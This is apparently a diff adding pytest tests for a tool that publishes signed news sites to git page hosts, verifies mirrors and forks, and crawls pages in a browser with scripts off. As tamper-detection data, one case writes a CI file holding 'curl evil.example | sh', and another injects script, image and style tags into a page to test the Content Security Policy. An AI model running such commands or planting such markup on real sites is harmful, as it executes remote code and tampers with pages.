@@ -1,0 +1,354 @@
+"""A site at hosts of web pages: in git, verified, taken over by forks, and read in a real browser with scripts off."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+import threading
+from contextlib import contextmanager
+from dataclasses import dataclass, replace
+from functools import partial
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import TYPE_CHECKING
+from urllib.parse import quote, unquote, urlsplit
+
+import pytest
+from pipeline_house import Moment, Paper, copy, git_tree, load, many, newsroom, run, told, toml, tree
+from playwright.sync_api import sync_playwright
+
+from pappus.cli.follow import verifier
+from pappus.mirrors import load as load_binding
+from pappus.mirrors import rebind
+from pappus.mirrors.follow import FollowOptions, follow
+from pappus.pipeline.places import PlaceOptions, open_place
+from pappus.pipeline.verify import VerifyOptions, verify
+from pappus.trust import ceremony
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from playwright.sync_api import Page
+
+    from pappus.pipeline import Newsroom
+    from pappus.pipeline.verify import Verdict
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+BRANCHES = {"github-pages": "gh-pages", "gitlab-pages": "main", "codeberg-pages": "pages"}
+BESIDE = {"github-pages": {".nojekyll"}, "gitlab-pages": {".gitlab-ci.yml"}, "codeberg-pages": set()}
+FORK = "https://fork.example/news/"
+STORIES = many(8)
+EXTRA = """
+[signing]
+keys = "keys"
+[[notices]]
+text = "کتاب‌ها"
+url = "https://books.example/"
+[[editions]]
+name = "markdown"
+[[editions]]
+name = "site"
+"""
+
+
+def configuration(url: str) -> str:
+    mirrors = "".join(
+        f"""
+[[mirrors]]
+name = "{host}"
+edition = "site"
+kind = "git"
+host = "{host}"
+remote = "mirrors/{host}.git"
+branch = "{branch}"
+address = "https://{host}.example/news/"
+"""
+        for host, branch in BRANCHES.items()
+    )
+    return toml(url, {"all": "/all.xml", "渡轮": "/some.xml"}, extra=EXTRA) + mirrors
+
+
+@dataclass
+class House:
+    """A newsroom with both editions, and its mirrors."""
+
+    folder: Path
+    clock: Moment
+
+    @property
+    def newsroom(self) -> Newsroom:
+        return load(self.folder, self.clock)
+
+    def files(self, host: str) -> dict[str, bytes]:
+        return git_tree(self.folder / f"mirrors/{host}.git", BRANCHES[host])
+
+    def clone(self, host: str, target: Path) -> Path:
+        """Return the branch, checked out as the host does."""
+        source = self.folder / f"mirrors/{host}.git"
+        _git("clone", "--quiet", "--branch", BRANCHES[host], str(source), str(target))
+        return target
+
+    def look(self, place: Path) -> Verdict:
+        return verify(open_place(str(place), PlaceOptions(), self.clock), VerifyOptions(), self.clock())
+
+
+def _git(*arguments: str, cwd: Path | None = None) -> None:
+    who = ["-c", "user.name=A Fork", "-c", "user.email=fork@fork.invalid"]
+    subprocess.run(["git", *who, *arguments], cwd=cwd, check=True, capture_output=True)
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Paper]]:
+    folder = tmp_path_factory.mktemp("pages") / "house"
+    with Paper() as paper:
+        paper.stories(STORIES)
+        paper.feed("/all.xml", STORIES)
+        paper.feed("/some.xml", STORIES[::2])
+        newsroom(folder, configuration(paper.url))
+        ceremony.init(folder / "keys", "", ceremony.NewRoots(folder=folder / "offline"), Moment()())
+        report = run(load(folder))
+        assert told(report, "failed", "warned") == []
+        yield folder, paper
+
+
+@pytest.fixture
+def house(template: tuple[Path, Paper], tmp_path: Path) -> House:
+    return House(copy(template[0], tmp_path / "house"), Moment())
+
+
+@pytest.mark.parametrize("host", BRANCHES)
+def test_a_branch_holds_the_site_and_what_its_host_wants_and_is_whole(host, house, tmp_path):
+    files = house.files(host)
+    assert {path for path in files if path.startswith(".")} == BESIDE[host]
+    assert "index.html" in files
+    assert not any(path.endswith(".md") for path in files)
+    verdict = house.look(house.clone(host, tmp_path / "clone"))
+    assert verdict.findings == ()
+    assert {note.kind for note in verdict.notes} == {"unpinned"}
+
+
+def test_every_mirror_of_the_site_holds_the_same_signed_bytes(house):
+    signed = [
+        {path: data for path, data in house.files(host).items() if not path.startswith((".", "qr/", "mirror.json"))}
+        for host in BRANCHES
+    ]
+    assert signed[0] == signed[1] == signed[2]
+
+
+def test_a_newsroom_with_a_site_has_the_same_markdown_as_one_without(template, house, tmp_path):
+    alone, _, _ = configuration(template[1].url).partition('[[mirrors]]\nname = "github')
+    alone = alone.replace('[[editions]]\nname = "site"\n', "")
+    newsroom(tmp_path / "alone", alone)
+    shutil.copytree(house.folder / "keys", tmp_path / "alone" / "keys")
+    run(load(tmp_path / "alone"))
+    with_site, without = tree(house.folder / "mirrors/folder"), tree(tmp_path / "alone/mirrors/folder")
+    pages = [path for path in without if path.endswith(".md") and path != "mirrors.md"]
+    assert len(pages) > 10
+    assert {path: with_site[path] for path in pages} == {path: without[path] for path in pages}
+    assert set(with_site) == set(without)
+
+
+@pytest.mark.parametrize(
+    ("host", "path", "data", "kind"),
+    [
+        ("github-pages", ".nojekyll", b"x", "altered"),
+        ("github-pages", ".nojekyll", None, "missing"),
+        ("gitlab-pages", ".gitlab-ci.yml", b"pages:\n  script:\n    - curl evil.example | sh\n", "altered"),
+        ("gitlab-pages", ".nojekyll", b"", "added"),
+        ("codeberg-pages", ".nojekyll", b"", "added"),
+        ("github-pages", "README.md", b"not ours", "added"),
+        ("github-pages", "index.html", b"<h1>Not the news</h1>", "altered"),
+        ("github-pages", "pages/lie.html", b"<h1>Not the news</h1>", "added"),
+    ],
+)
+def test_what_is_not_as_it_was_put_is_found(host, path, data, kind, house, tmp_path):
+    clone = house.clone(host, tmp_path / "clone")
+    if data is None:
+        (clone / path).unlink()
+    else:
+        (clone / path).write_bytes(data)
+    assert [(one.kind, one.path) for one in house.look(clone).findings] == [(kind, path)]
+
+
+def test_a_binding_that_speaks_of_another_edition_is_found(house, tmp_path):
+    clone = house.clone("github-pages", tmp_path / "clone")
+    bound = load_binding((clone / "mirror.json").read_bytes())
+    (clone / "mirror.json").write_bytes(replace(bound, edition="markdown").dump())
+    found = [(one.kind, one.path) for one in house.look(clone).findings]
+    assert found == [("added", ".nojekyll"), ("altered", "mirror.json")]
+
+
+def test_a_mirror_that_goes_to_another_kind_of_host_changes_its_files(house):
+    text = (house.folder / "pappus.toml").read_text(encoding="utf-8")
+    text = text.replace('host = "gitlab-pages"', 'host = "github-pages"')
+    (house.folder / "pappus.toml").write_text(text, encoding="utf-8")
+    run(house.newsroom, ["publish"])
+    assert {path for path in house.files("gitlab-pages") if path.startswith(".")} == {".nojekyll"}
+    text = text.replace('host = "github-pages"', 'host = "codeberg-pages"')
+    (house.folder / "pappus.toml").write_text(text, encoding="utf-8")
+    run(house.newsroom, ["publish"])
+    assert not [path for path in house.files("gitlab-pages") if path.startswith(".")]
+
+
+def test_a_run_with_nothing_new_changes_no_branch(house):
+    before = {host: house.files(host) for host in BRANCHES}
+    report = run(house.newsroom, ["build", "publish"])
+    assert told(report, "published", "built") == []
+    run(house.newsroom, ["build"], full=True)
+    assert {host: house.files(host) for host in BRANCHES} == before
+    assert told(run(house.newsroom, ["publish"]), "published") == []
+
+
+@pytest.mark.parametrize("host", BRANCHES)
+def test_a_fork_of_a_site_makes_its_own_codes_and_is_whole(host, house, tmp_path):
+    clone = house.clone(host, tmp_path / "clone")
+    done = rebind(clone, FORK, "", house.clock())
+    assert done.written == len(STORIES) + 2
+    verdict = house.look(clone)
+    assert verdict.findings == ()
+    assert "fork" in {note.kind for note in verdict.notes}
+
+
+@pytest.mark.parametrize("host", BRANCHES)
+def test_a_fork_follows_a_site(host, house, tmp_path):
+    upstream = house.folder / f"mirrors/{host}.git"
+    fork = tmp_path / "fork"
+    _git("init", "--quiet", str(fork))
+    _git("commit", "--quiet", "--allow-empty", "--message", "begin", cwd=fork)
+    options = FollowOptions(upstream=str(upstream), address=FORK, branch=BRANCHES[host])
+    done = follow(fork, options, verifier(None, house.clock()), house.clock())
+    assert done.bound == len(STORIES) + 1
+    verdict = house.look(fork)
+    assert verdict.findings == ()
+    assert load_binding((fork / "mirror.json").read_bytes()).edition == "site"
+    again = follow(fork, options, verifier(None, house.clock()), house.clock())
+    assert again.changed == 0
+
+
+def test_a_correction_and_a_withdrawal_reach_the_site(template, house):
+    _, paper = template
+    corrected = replace(STORIES[0], title="Boat number 0 comes home at last", updated=Moment()())
+    paper.stories([corrected])
+    paper.put(STORIES[1].path, "gone", status=410)
+    paper.feed("/all.xml", [corrected, replace(STORIES[1], updated=Moment()()), *STORIES[2:]])
+    try:
+        house.clock.pass_by(hours=1)
+        run(house.newsroom)
+    finally:
+        paper.stories(STORIES)
+        paper.feed("/all.xml", STORIES)
+    pages = [data.decode() for path, data in house.files("github-pages").items() if path.startswith("pages/")]
+    (revised,) = (text for text in pages if "at last" in text)
+    assert "Text revised" in revised
+    (withdrawn,) = (text for text in pages if "This article has been withdrawn" in text)
+    assert "Its publisher has taken it back." in withdrawn
+    assert "number one of the morning" not in withdrawn
+
+
+# In a browser
+
+
+@contextmanager
+def _served(folder: Path) -> Iterator[str]:
+    class Quiet(SimpleHTTPRequestHandler):
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+@dataclass
+class Crawl:
+    """What a browser met on its way."""
+
+    visited: set[str]
+    asked: list[str]
+    told: list[str]
+    dead: list[str]
+
+
+def _crawl(view: Page, home: str, root: str) -> Crawl:
+    """Open home, and all that it leads to at this address."""
+    crawl = Crawl(set(), [], [], [])
+    view.on("request", lambda request: crawl.asked.append(request.url))
+    view.on("requestfailed", lambda request: crawl.dead.append(request.url))
+    view.on("response", lambda response: crawl.dead.append(response.url) if response.status >= 400 else None)
+    view.on("console", lambda message: crawl.told.append(message.text))
+    view.on("pageerror", lambda error: crawl.told.append(str(error)))
+    waiting = [home]
+    while waiting:
+        url = waiting.pop()
+        if url in crawl.visited:
+            continue
+        crawl.visited.add(url)
+        if not url.endswith(".html"):
+            crawl.dead += [] if view.request.get(url).ok else [url]
+            continue
+        view.goto(url)
+        page = view.locator("html").element_handle()
+        assert not page.evaluate("html => html.scrollWidth > innerWidth"), url
+        for image in view.query_selector_all("img"):
+            image.scroll_into_view_if_needed()
+            assert image.evaluate("image => image.decode().then(() => image.naturalWidth > 0)"), url
+        assert page.evaluate("() => document.scripts.length + document.querySelectorAll('iframe, object').length") == 0
+        links = view.eval_on_selector_all("a[href]", "all => all.map(one => one.href.split('#')[0])")
+        waiting += [link for link in links if link.startswith(root)]
+    return crawl
+
+
+@pytest.mark.chromium
+@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
+@pytest.mark.parametrize("served", ["under a path", "from a folder"])
+def test_every_page_is_readable_with_scripts_off_and_asks_nobody_for_anything(served, house, tmp_path):
+    clone = house.clone("github-pages", tmp_path / "www" / "deep" / "news")
+    with _served(tmp_path / "www") as origin, sync_playwright() as playwright:
+        root = f"{origin}/deep/news/" if served == "under a path" else clone.as_uri() + "/"
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        view = browser.new_context(viewport={"width": 320, "height": 640}, java_script_enabled=False).new_page()
+        if served == "from a folder":
+            view.request.get = lambda url: _Read(Path(unquote(urlsplit(url).path)))
+        crawl = _crawl(view, f"{root}index.html", root)
+        browser.close()
+    every = {root + quote(path) for path in tree(clone) if path.endswith(".html")}
+    assert {unquote(url) for url in crawl.visited if url.endswith(".html")} == set(map(unquote, every))
+    assert f"{root}mirror.json" in crawl.visited
+    assert f"{root}mirrors.json" in crawl.visited
+    assert [url for url in crawl.asked if not url.startswith(root)] == []
+    assert crawl.told == []
+    assert crawl.dead == []
+
+
+class _Read:
+    """Whether a file is there, as an answer would tell."""
+
+    def __init__(self, path: Path) -> None:
+        self.ok = path.is_file()
+
+
+@pytest.mark.chromium
+@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
+def test_the_policy_stops_what_somebody_put_into_a_page(house, tmp_path):
+    clone = house.clone("github-pages", tmp_path / "www")
+    home = clone / "index.html"
+    evil = (
+        '<script>document.title = "taken"</script><img src="http://127.0.0.1:9/x.png"><style>h1{display:none}</style>'
+    )
+    home.write_text(home.read_text(encoding="utf-8").replace("<h1>", f"{evil}<h1>"), encoding="utf-8")
+    told_: list[str] = []
+    with _served(clone) as origin, sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        view = browser.new_page()
+        view.on("console", lambda message: told_.append(message.text))
+        view.goto(f"{origin}/index.html")
+        assert view.title() == "The harbour, mirrored"
+        assert view.locator("h1").is_visible()
+        browser.close()
+    assert sum("Content Security Policy" in text for text in told_) == 3
